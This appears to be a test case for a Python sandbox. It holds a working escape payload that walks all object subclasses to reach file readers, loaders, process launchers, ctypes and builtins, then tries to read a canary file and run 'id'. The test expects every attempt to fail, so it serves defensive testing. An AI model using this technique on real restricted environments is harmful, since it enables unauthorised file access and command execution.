# attack: walks all subclasses of object, as sandboxes of Python are left, and uses what opens, loads and spawns
# property: S06
# input: {"file": "{{canary_file}}"}
# expect: value []
reached = []
seen = set()
stack = [().__class__.__base__]
while stack:
    for child in type.__subclasses__(stack.pop()):
        if child not in seen:
            seen.add(child)
            stack.append(child)
if len(seen) < 500:
    reached.append(f"walked only {len(seen)} classes")
path = input["file"]
for cls in seen:
    name = cls.__name__
    tries = []
    if name in ("FileIO", "_FileIO"):
        tries = [lambda: cls(path).read(), lambda: cls(0).read() or 1 / 0]
    elif name.endswith("Loader") or name == "zipimporter":
        tries = [lambda: cls("x", path).get_data(path), lambda: cls.get_data(cls, path), lambda: cls(path).get_data(path)]
    elif name in ("Popen", "_wrap_close", "Process", "BaseProcess"):
        tries = [lambda: cls(["/bin/id"]), lambda: cls.__init__.__globals__["system"]("id"), lambda: cls(target=print).start()]
    elif name in ("socket", "SocketType"):
        tries = [lambda: cls()]
    elif name in ("CDLL", "PyDLL", "CFUNCTYPE"):
        tries = [lambda: cls(None)]
    elif name in ("catch_warnings", "Quitter", "_Printer"):
        tries = [
            lambda: cls.__init__.__globals__["__builtins__"]["open"](path).read(),
            lambda: cls.__init__.__builtins__["open"](path).read(),
        ]
    for attempt in tries:
        try:
            reached.append(f"{name}: {attempt()!r:.60}")
        except BaseException:
            pass
return reached
